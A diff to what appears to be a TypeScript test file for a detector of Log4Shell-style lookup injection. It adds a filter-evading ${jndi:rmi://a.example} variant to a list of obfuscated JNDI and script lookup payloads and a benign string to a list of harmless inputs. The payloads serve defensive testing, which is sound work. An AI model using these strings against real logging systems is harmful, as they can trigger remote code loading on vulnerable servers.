@@ -16,6 +16,10 @@ const attacks: readonly [what: string, text: string][] = [
   ['one of what is not in the environment', '${j${env:NONE:-n}di${env:NONE:-:}ldap://a.example}'],
   ['one of a date', "${${date:'j'}ndi:ldap://a.example}"],
   ['one that is nested three times', '${${lower:${upper:${::-jndi}}}:ldap://a.example}'],
+  [
+    'one whose colon is missing',
+    '${${::-j}${::-n}${::-d}${::-i}${::-r}${::-m}${::-i}://a.example}',
+  ],
   ['a percent-encoded one', '%24%7Bjndi:ldap://a.example%7D'],
   ['one in numbered escapes', '$\\u007bjndi:ldap://a.example}'],
   ['one that runs a script', '${script:javascript:1}'],
@@ -35,6 +39,7 @@ const honest = [
   'stage: ${self:custom.${opt:stage}.name}',
   'path: ${env:HOME}/bin and so on',
   '${user.name:-anonymous}',
+  'look-ups such as `${jndi:…}`',
   'jndi:ldap was the hole',
 ]
 
